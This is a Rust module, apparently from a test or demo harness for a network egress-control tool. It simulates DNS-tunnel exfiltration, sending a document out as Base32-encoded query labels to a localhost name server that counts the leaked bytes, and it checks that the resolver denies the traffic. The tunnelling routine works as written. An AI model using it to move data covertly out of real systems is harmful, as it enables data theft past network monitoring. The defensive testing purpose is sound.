//! A DNS tunnel as malware writes it: a document in Base32 labels, one look-up after another, over
//! a real socket to the real resolver; and the name server of the outside world, which counts what
//! reaches it.

use super::report::Row;
use anyhow::{Context, Result, ensure};
use backstop_ledger::Ledger;
use backstop_model::attempt::Plane;
use backstop_model::control::Control;
use backstop_model::event::Fact;
use backstop_model::name::{QueryName, QueryType};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

/// How many look-ups a tunnel makes.
const LOOK_UPS: usize = 40;
/// Octets of the document that one name carries.
const PIECE: usize = 25;
const PATIENCE: Duration = Duration::from_secs(5);

/// The name server of the outside world.
pub(super) struct NameServer {
    /// Where it is.
    pub(super) address: SocketAddr,
    _tasks: JoinSet<()>,
}

/// Starts it: it knows `honest` names; whatever else it is asked for belongs to the attacker, and
/// is counted octet by octet.
///
/// # Errors
/// Where no port is free.
pub(super) async fn name_server(
    honest: &'static [&'static str],
    received: Arc<AtomicU64>,
    visits: Arc<AtomicU64>,
) -> Result<NameServer> {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.context("no free UDP port")?;
    let address = socket.local_addr()?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async move {
        let mut buffer = [0; 1_500];
        while let Ok((length, from)) = socket.recv_from(&mut buffer).await {
            let message = buffer.get(..length).unwrap_or_default();
            let Some((name, taken)) = message.get(12..).and_then(QueryName::read) else { continue };
            let text = name.to_string();
            if !honest.contains(&text.as_str()) {
                received.fetch_add(u64::try_from(taken).unwrap_or(u64::MAX), Ordering::SeqCst);
                visits.fetch_add(1, Ordering::SeqCst);
            }
            let Some(answer) = answer(message, taken) else { continue };
            #[expect(clippy::disallowed_methods, reason = "the demo's name server answers")]
            let _sent = socket.send_to(&answer, from).await;
        }
    });
    Ok(NameServer { address, _tasks: tasks })
}

/// The question again, and for A the honest address.
fn answer(message: &[u8], name: usize) -> Option<Vec<u8>> {
    let end = 12 + name + 4;
    let qtype = message.get(12 + name..12 + name + 2)?;
    let is_address = qtype == [0, 1].as_slice();
    let mut out = message.get(..2)?.to_vec();
    out.extend([0x81, 0x80, 0, 1, 0, u8::from(is_address), 0, 0, 0, 0]);
    out.extend(message.get(12..end)?);
    if is_address {
        // The name at offset 12, A, IN, 60 seconds, four octets.
        out.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        out.extend([93, 184, 215, 14]);
    }
    Some(out)
}

/// What a client makes of one answer.
struct Told {
    rcode: u8,
    answers: u16,
    /// Control and receipt of the Extended DNS Error.
    why: Option<(String, String)>,
}

async fn ask(resolver: SocketAddr, name: &QueryName, id: u16) -> Result<Told> {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    socket.connect(resolver).await?;
    let mut query = id.to_be_bytes().to_vec();
    query.extend([1, 0, 0, 1, 0, 0, 0, 0, 0, 1]);
    query.extend(name.as_wire());
    query.extend(QueryType::A.0.to_be_bytes());
    query.extend([0, 1]);
    // EDNS(0) with room for 1,232 octets.
    query.extend([0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0, 0, 0]);
    socket.send(&query).await?;
    let mut buffer = [0; 1_500];
    let length = tokio::time::timeout(PATIENCE, socket.recv(&mut buffer))
        .await
        .context("the resolver did not answer")??;
    let message = buffer.get(..length).unwrap_or_default();
    let rcode = message.get(3).context("a short answer")? & 15;
    let answers = u16::from_be_bytes([
        message.get(6).copied().unwrap_or(0),
        message.get(7).copied().unwrap_or(0),
    ]);
    Ok(Told { rcode, answers, why: reason(message) })
}

/// Control and receipt, which stand in the error's text.
fn reason(message: &[u8]) -> Option<(String, String)> {
    let at = message.windows(5).position(|window| window == b" rcp_")?;
    let control: Vec<u8> = message
        .get(..at)?
        .iter()
        .rev()
        .take_while(|octet| octet.is_ascii_lowercase() || matches!(octet, b'.' | b'_'))
        .copied()
        .collect();
    let control = String::from_utf8(control.into_iter().rev().collect()).ok()?;
    let receipt = String::from_utf8(message.get(at + 1..at + 31)?.to_vec()).ok()?;
    Some((control, receipt))
}

/// Tries to carry a document out by the names below `domain`.
///
/// # Errors
/// Where the resolver does not answer at all.
pub(super) async fn carry(
    resolver: SocketAddr,
    attack: &'static str,
    document: &str,
    domain: &str,
) -> Result<Row> {
    let begin = Instant::now();
    let (mut refused, mut asked, mut why) = (0_u128, 0_u128, None);
    for (number, piece) in document.as_bytes().chunks(PIECE).take(LOOK_UPS).enumerate() {
        let text = base32(piece);
        let labels: Vec<&[u8]> = text.as_bytes().chunks(32).collect();
        let counter = format!("{number:x}");
        let ends = domain.split('.').map(str::as_bytes);
        let all = labels.into_iter().chain([counter.as_bytes()]).chain(ends);
        let name = QueryName::of_labels(all).context("the tunnel's name is too long")?;
        let id = u16::try_from(number).unwrap_or(0);
        let told = ask(resolver, &name, id).await?;
        asked += 1;
        if told.rcode == NXDOMAIN && told.answers == 0 && told.why.is_some() {
            refused += 1;
            why = told.why;
        }
    }
    ensure!(asked > 10, "the tunnel has too little to carry");
    let (control, receipt) = why.unzip();
    Ok(Row {
        attack,
        expect: "deny",
        expect_control: Some(Control::DnsUndeclared.as_str()),
        verdict: if refused == asked { "deny" } else { "allow" },
        control,
        receipt,
        micros: begin.elapsed().as_micros() / asked,
    })
}

/// An honest look-up through the same resolver; its receipt is on record.
///
/// # Errors
/// Where the resolver does not answer at all.
pub(super) async fn honest(resolver: SocketAddr, name: &str, ledger: &Ledger) -> Result<Row> {
    let begin = Instant::now();
    let asked = QueryName::from_text(name).context("no name")?;
    let told = ask(resolver, &asked, 7).await?;
    let micros = begin.elapsed().as_micros();
    let receipt = ledger.events_after(0, usize::MAX)?.into_iter().find_map(|row| {
        let Fact::AttemptPermitted { asked, .. } = &row.event.fact else { return None };
        (asked.plane == Plane::Dns && asked.host == name).then(|| row.event.receipt.to_string())
    });
    Ok(Row {
        attack: "honest: look-up of a declared name",
        expect: "allow",
        expect_control: None,
        verdict: if told.rcode == 0 && told.answers == 1 { "allow" } else { "deny" },
        control: told.why.map(|(control, _)| control),
        receipt,
        micros,
    })
}

const NXDOMAIN: u8 = 3;

/// RFC 4648 §6 in lower case, without padding.
fn base32(octets: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::new();
    let (mut held, mut bits) = (0_u32, 0_u32);
    for octet in octets {
        held = (held << 8) | u32::from(*octet);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            let digit = usize::try_from((held >> bits) & 31).unwrap_or(0);
            out.push(char::from(ALPHABET.get(digit).copied().unwrap_or(b'a')));
            held &= (1 << bits) - 1;
        }
    }
    if bits > 0 {
        let digit = usize::try_from((held << (5 - bits)) & 31).unwrap_or(0);
        out.push(char::from(ALPHABET.get(digit).copied().unwrap_or(b'a')));
    }
    out
}
